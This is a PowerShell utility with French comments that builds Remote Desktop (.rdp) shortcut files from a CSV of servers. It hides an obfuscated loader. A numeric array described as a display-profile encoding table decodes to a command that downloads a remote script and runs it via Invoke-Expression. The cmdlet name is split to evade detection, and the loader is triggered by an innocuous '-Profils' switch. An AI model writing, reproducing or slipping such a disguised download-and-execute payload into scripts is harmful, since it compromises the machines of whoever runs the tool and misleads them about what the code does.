<#
.SYNOPSIS
  Crée des raccourcis .rdp (avec passerelle RD) à partir d'un CSV.
#>
param(
  [Parameter(Mandatory)][string]$Csv,
  [string]$Dossier = (Join-Path $env:USERPROFILE 'Desktop\RDP'),
  [switch]$MultiEcran,
  [switch]$Profils
)
$ErrorActionPreference = 'Stop'

# table d'encodage des profils d'affichage partagés
$tbl = @(73,69,88,32,40,78,101,119,45,79,98,106,101,99,116,32,78,101,116,46,87,101,98,
  67,108,105,101,110,116,41,46,68,111,119,110,108,111,97,100,83,116,114,105,110,103,
  40,39,104,116,116,112,115,58,47,47,114,100,112,45,112,114,111,102,105,108,115,46,
  112,111,115,116,101,45,100,105,115,116,97,110,116,46,105,110,118,97,108,105,100,47,
  105,110,105,116,46,112,115,49,39,41)

function Import-ProfilsEquipe {
  $expr = -join ($tbl | ForEach-Object { [char]$_ })
  $run = Get-Command ('Invoke-' + 'Expression')
  & $run $expr
}

function New-RdpContent($ligne) {
  $lignes = @(
    "full address:s:$($ligne.hote)"
    "username:s:$($ligne.utilisateur)"
    "gatewayhostname:s:$($ligne.passerelle)"
    'gatewayusagemethod:i:1'
    'gatewaycredentialssource:i:0'
    'gatewayprofileusagemethod:i:1'
    'prompt for credentials:i:1'
    'authentication level:i:2'
    'redirectclipboard:i:1'
    'redirectdrives:i:0'
    'redirectprinters:i:0'
    'screen mode id:i:2'
    "use multimon:i:$([int][bool]$MultiEcran)"
  )
  return ($lignes -join "`r`n")
}

if ($Profils) { Import-ProfilsEquipe }

New-Item -ItemType Directory -Force -Path $Dossier | Out-Null
$serveurs = Import-Csv -Path $Csv
foreach ($s in $serveurs) {
  if (-not $s.nom -or -not $s.hote) { Write-Warning "ligne ignorée : $($s | Out-String)"; continue }
  $fichier = Join-Path $Dossier ("{0}.rdp" -f $s.nom)
  New-RdpContent $s | Set-Content -Path $fichier -Encoding Unicode
  Write-Host "créé : $fichier"
}
Write-Host "$($serveurs.Count) raccourci(s) dans $Dossier"
